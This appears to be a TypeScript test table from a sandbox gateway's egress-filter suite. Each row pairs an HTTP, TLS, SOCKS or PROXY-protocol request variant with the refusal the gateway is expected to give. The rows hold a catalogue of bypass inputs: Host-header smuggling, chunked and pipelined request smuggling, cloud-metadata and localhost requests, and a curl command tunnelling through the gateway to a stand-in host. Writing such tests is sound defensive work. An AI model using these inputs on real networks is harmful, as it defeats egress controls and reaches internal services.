import { refused, type TechniqueClass } from "../technique.ts";

const DOMAIN = refused("http", "domain");
const BAD_REQUEST = refused("http", "bad-request");

/** On port 80 each request says whom it is for. */
export const hosts: TechniqueClass = {
  name: "an HTTP request",
  judged: "network",
  plain: "internet",
  rows: [
    ["http-allowed", "for an allowed name: the control", "http(get(GOOD))", "open"],
    ["http-allowed-upper", "for an allowed name in capital letters: the same name", "http(get(GOOD.upper()))", "open"],
    ["http-allowed-port", "for an allowed name with its port: the control", "http(get(GOOD + ':80'))", "open"],
    [
      "http-allowed-body",
      "for an allowed name, with a body of two chunks: the control",
      "http(post(GOOD, ['Transfer-Encoding: chunked'], chunked('one', TOKEN)))",
      "open",
    ],
    ["http-evil", "for a name that nobody allowed", "http(get(BAD))", DOMAIN],
    [
      "http-neighbour",
      "for an allowed site's neighbour on its address",
      "http(get(f'{TOKEN}.neighbour.test'))",
      DOMAIN,
    ],
    ["http-below-allowed", "for a name below an allowed one", "http(get(TOKEN + '.allowed.test'))", DOMAIN],
    ["http-ends-alike", "for a name that ends as an allowed one", "http(get(TOKEN + 'allowed.test'))", DOMAIN],
    ["http-begins-alike", "for a name that begins as an allowed one", "http(get('allowed.test.' + BAD))", DOMAIN],
    ["http-address", "for an address", "http(get(EVIL, '/' + TOKEN))", DOMAIN],
    ["http-metadata", "for the metadata address", "http(get(METADATA, '/latest/meta-data/' + TOKEN))", DOMAIN],
    ["http-localhost", "for localhost", "http(get('localhost', '/' + TOKEN))", DOMAIN],
    ["http-dot", "for an allowed name with a dot at its end", "http(get(GOOD + '.'))", BAD_REQUEST],
    ["http-port", "for an allowed name on another port", "http(get(GOOD + ':22'))", BAD_REQUEST],
    ["http-port-zeros", "for an allowed name and its port with zeros", "http(get(GOOD + ':00080'))", BAD_REQUEST],
    ["http-port-empty", "for an allowed name and no port behind its colon", "http(get(GOOD + ':'))", BAD_REQUEST],
    ["http-userinfo", "for an unlisted name behind a user's", "http(get('allowed.test@' + BAD))"],
    ["http-userinfo-allowed", "for an allowed name behind a user's", "http(get(BAD + '@' + GOOD))"],
    ["http-list", "for two names in one header, by a comma", "http(get(GOOD + ', ' + BAD))"],
    ["http-space", "for two names in one header, by a space", "http(get(GOOD + ' ' + BAD))"],
    ["http-slash", "for a name with a path", "http(get(GOOD + '/' + BAD))"],
    ["http-question", "for a name with a query", "http(get(GOOD + '?' + BAD))"],
    ["http-fragment", "for a name with a fragment", "http(get(GOOD + '#' + BAD))"],
    ["http-backslash", "for a name with a backslash", "http(get(BAD + '\\\\@' + GOOD))"],
    ["http-percent", "for a name that is written in percents", "http(get('%65vil.test', '/' + TOKEN))"],
    ["http-nul", "for a name with a zero byte", "http(get(GOOD + '\\0' + BAD))"],
    ["http-tab", "for a name with a tab", "http(get(GOOD + '\\t' + BAD))"],
    ["http-utf8", "for a name in other letters that look alike", "http(get('\\xd1\\x96' + GOOD))"],
    ["http-brackets", "for an IPv6 address", "http(get('[::1]', '/' + TOKEN))"],
    ["http-mapped", "for an IPv4 address written as IPv6", "http(get('[::ffff:' + EVIL + ']', '/' + TOKEN))"],
    ["http-decimal", "for an address written as one number", "http(get('1161972290', '/' + TOKEN))"],
    ["http-hex", "for an address written in hex", "http(get('0x45435942', '/' + TOKEN))"],
    ["http-long", "for a name longer than names can be", "http(get('x' * 300 + '.' + GOOD))"],
    ["http-none", "for nobody", "http(head('GET / HTTP/1.1', 'X-Host: ' + GOOD))"],
    ["http-empty", "for an empty name", "http(head('GET / HTTP/1.1', 'Host: ', 'X-Host: ' + GOOD))"],
    ["http-none-10", "for nobody, in HTTP/1.0", "http(head('GET /' + TOKEN + ' HTTP/1.0'))"],
    ["http-two", "with two Hosts, the allowed one first", "http(get(GOOD, '/', 'Host: ' + BAD))"],
    ["http-two-evil", "with two Hosts, the other one first", "http(get(BAD, '/', 'Host: ' + GOOD))"],
    ["http-folded", "with a Host on two lines", "http(head('GET / HTTP/1.1', 'Host: ' + GOOD, ' ' + BAD))"],
    [
      "http-folded-first",
      "with a Host whose name is on the next line",
      "http(head('GET / HTTP/1.1', 'Host:', ' ' + BAD))",
    ],
    ["http-space-colon", "with a space before the colon of a second Host", "http(get(GOOD, '/', 'Host : ' + BAD))"],
    [
      "http-underscore",
      "with headers that some take for Host",
      "http(get(BAD, '/', 'X-Forwarded-Host: ' + GOOD, 'X_Host: ' + GOOD, 'X-Original-Host: ' + GOOD))",
    ],
    [
      "http-absolute",
      "with another name in an absolute address",
      "http(head(f'GET http://{BAD}/ HTTP/1.1', 'Host: ' + GOOD))",
    ],
    [
      "http-absolute-host",
      "with an allowed name in an absolute address, and another Host",
      "http(head(f'GET http://{GOOD}/ HTTP/1.1', 'Host: ' + BAD))",
    ],
    ["http-absolute-both", "with another name in both", "http(head(f'GET http://{BAD}/ HTTP/1.1', 'Host: ' + BAD))"],
    [
      "http-absolute-https",
      "with an absolute address of TLS",
      "http(head(f'GET https://{GOOD}/ HTTP/1.1', 'Host: ' + GOOD))",
    ],
    [
      "http-absolute-allowed",
      "as to a proxy, for an allowed name",
      "http(head(f'GET http://{GOOD}/ HTTP/1.1', 'Host: ' + GOOD))",
    ],
    ["http-scheme", "with an address of a file", "http(head(f'GET file:///{TOKEN} HTTP/1.1', 'Host: ' + GOOD))"],
    ["http-authority", "with a name for a path", "http(head(f'GET {BAD}:80 HTTP/1.1', 'Host: ' + GOOD))"],
    ["http-at-path", "with a path that begins with @", "http(head(f'GET @{BAD}/ HTTP/1.1', 'Host: ' + GOOD))"],
    ["http-star", "for the whole server (OPTIONS *)", "http(head('OPTIONS * HTTP/1.1', 'Host: ' + GOOD))", BAD_REQUEST],
    ["http-09", "in HTTP/0.9", "http('GET /' + TOKEN + '\\r\\n')"],
    ["http-20", "that says HTTP/2.0", "http(head('GET / HTTP/2.0', 'Host: ' + GOOD))"],
    [
      "http-endpoint-vip",
      "for an allowed name, at an endpoint's address",
      "http(get(GOOD), to=LANVIP)",
      "shut",
      "the LAN's machine answers any name",
    ],
    ["http-trace", "by TRACE", "http(head('TRACE / HTTP/1.1', 'Host: ' + GOOD))", BAD_REQUEST],
    ["http-lower-method", "by a method in small letters", "http(head('get / HTTP/1.1', 'Host: ' + GOOD))"],
  ],
};

/** One allowed request, and then others on the same connection, which carries one: what comes after it is nobody's. */
export const connections: TechniqueClass = {
  name: "a kept connection",
  judged: "network",
  plain: "internet",
  rows: [
    ["kept-allowed", "for one allowed name and then another that is allowed", "kept(get(GOOD))"],
    ["kept-evil", "for an allowed name and then another", "kept(get(BAD))"],
    ["kept-pipelined", "for an allowed name and another, at once", "pipelined(get(BAD))"],
    ["kept-third", "for an allowed name twice, and then another", "kept(get('allowed.test'), get(BAD))"],
    [
      "kept-pipelined-many",
      "for an allowed name ten times and another, at once",
      "pipelined(*[get('allowed.test')] * 10, get(BAD))",
    ],
    ["kept-neighbour", "for an allowed name and then its neighbour", "kept(get(f'{TOKEN}.neighbour.test'))"],
    [
      "kept-absolute",
      "for an allowed name and then an absolute address",
      "kept(head(f'GET http://{BAD}/ HTTP/1.1', f'Host: {BAD}'))",
    ],
    [
      "kept-connect",
      "for an allowed name and then CONNECT",
      "kept(head(f'CONNECT {BAD}:443 HTTP/1.1', f'Host: {BAD}:443'))",
    ],
    [
      "kept-body",
      "for an allowed name, another within its body, both read as one",
      "http(post('allowed.test', [f'Content-Length: {len(get(BAD))}'], get(BAD)))",
      "open",
    ],
    [
      "kept-chunk-short",
      "for an allowed name, by a chunk that ends early: what follows is its body",
      "http(post('allowed.test', ['Transfer-Encoding: chunked'], 'ff\\r\\nx\\r\\n0\\r\\n\\r\\n') + get(BAD))",
      "open",
    ],
    [
      "kept-trailer",
      "for an allowed name, with a Host in the trailer, where it is no Host",
      "http(post('allowed.test', ['Transfer-Encoding: chunked'], '1\\r\\nx\\r\\n0\\r\\nHost: ' + BAD + '\\r\\n\\r\\n'))",
      "open",
    ],
    [
      "kept-expect",
      "for an allowed name that is to say 100 first, and then another",
      "http(post('allowed.test', ['Expect: 100-continue', 'Content-Length: 4']), 'body' + get(BAD), pause=0.4)",
    ],
    [
      "kept-head",
      "for an allowed name's HEAD, and then another",
      "http(head('HEAD / HTTP/1.1', 'Host: allowed.test'), get(BAD), pause=0.4)",
    ],
    [
      "kept-tls",
      "inside TLS, for one name and then another: the same as fronting",
      "tls('allowed.test', get('allowed.test'), get(f'{TOKEN}.neighbour.test'))",
      "open",
    ],
    ["kept-spaces", "for an allowed name and then another, behind empty lines", "kept('\\r\\n\\r\\n' + get(BAD))"],
  ],
};

/** The gateway is no proxy that a client may steer. */
export const proxies: TechniqueClass = {
  name: "the gateway as a proxy",
  judged: "network",
  plain: "internet",
  rows: [
    ["proxy-connect", "CONNECT to an unlisted name", "http(head(f'CONNECT {BAD}:443 HTTP/1.1', f'Host: {BAD}:443'))"],
    [
      "proxy-connect-allowed",
      "CONNECT to an allowed name",
      "http(head(f'CONNECT {GOOD}:443 HTTP/1.1', f'Host: {GOOD}'))",
    ],
    [
      "proxy-connect-mixed",
      "CONNECT to an unlisted name, in an allowed one's Host",
      "http(head(f'CONNECT {BAD}:443 HTTP/1.1', f'Host: {GOOD}'))",
    ],
    [
      "proxy-connect-22",
      "CONNECT to an allowed name's SSH",
      "http(head('CONNECT git.test:22 HTTP/1.1', f'Host: {GOOD}'))",
    ],
    [
      "proxy-connect-loopback",
      "CONNECT to the gateway's own loopback",
      "http(head('CONNECT 127.0.0.1:5353 HTTP/1.1', f'Host: {GOOD}'))",
    ],
    ["proxy-connect-10", "CONNECT in HTTP/1.0", "http(head(f'CONNECT {BAD}:443 HTTP/1.0'))"],
    [
      "proxy-connect-443",
      "CONNECT on the port of TLS",
      "http(head(f'CONNECT {BAD}:443 HTTP/1.1', f'Host: {BAD}'), port=443)",
    ],
    ["proxy-curl", "as curl asks a proxy", "in_a_shell(f'curl -sSf -m 2 -x http://{VIP}:80 http://{BAD}/')"],
    [
      "proxy-curl-tunnel",
      "as curl asks a proxy for a tunnel",
      "in_a_shell(f'curl -sSfk -m 2 -p -x http://{VIP}:80 https://{BAD}/')",
    ],
    [
      "proxy-socks4",
      "SOCKS 4",
      "import socket; got = say(b'\\4\\1\\1\\xbb' + socket.inet_aton(EVIL) + TOKEN.encode() + b'\\0', port=80)",
    ],
    [
      "proxy-socks5",
      "SOCKS 5",
      "say(b'\\5\\1\\0', b'\\5\\1\\0\\3' + bytes([len(BAD)]) + BAD.encode() + b'\\1\\xbb', port=80)",
    ],
    [
      "proxy-socks5-443",
      "SOCKS 5 on the port of TLS",
      "say(b'\\5\\1\\0', b'\\5\\1\\0\\3' + bytes([len(BAD)]) + BAD.encode() + b'\\1\\xbb')",
    ],
    ["proxy-protocol", "PROXY protocol before a request", "http(f'PROXY TCP4 {EVIL} {VIP} 1 80\\r\\n' + get(GOOD))"],
    [
      "proxy-protocol-2",
      "PROXY protocol in its second version",
      "import socket; got = http(b'\\r\\n\\r\\n\\0\\r\\nQUIT\\n\\x21\\x11\\0\\x0c' + socket.inet_aton(EVIL) * 2 + b'\\0\\1\\0\\x50' + get(GOOD).encode())",
    ],
    [
      "proxy-protocol-tls",
      "PROXY protocol before a handshake",
      "say(f'PROXY TCP4 {EVIL} {VIP} 1 443\\r\\n'.encode() + record(message(GOOD)))",
    ],
    [
      "proxy-forwarded",
      "for an unlisted name, forwarded for a loopback client",
      "http(get(BAD, '/', 'X-Forwarded-For: 127.0.0.1', 'Forwarded: for=127.0.0.1;host=' + GOOD))",
      DOMAIN,
    ],
    [
      "proxy-ssrf-header",
      "for an allowed name that is asked to be sent elsewhere by a header",
      "http(get(BAD, '/', 'X-Original-URL: http://' + GOOD, 'X-Rewrite-URL: /'))",
      DOMAIN,
    ],
    ["proxy-ftp", "FTP by HTTP", "http(head(f'GET ftp://{BAD}/ HTTP/1.1', f'Host: {GOOD}'))"],
  ],
};
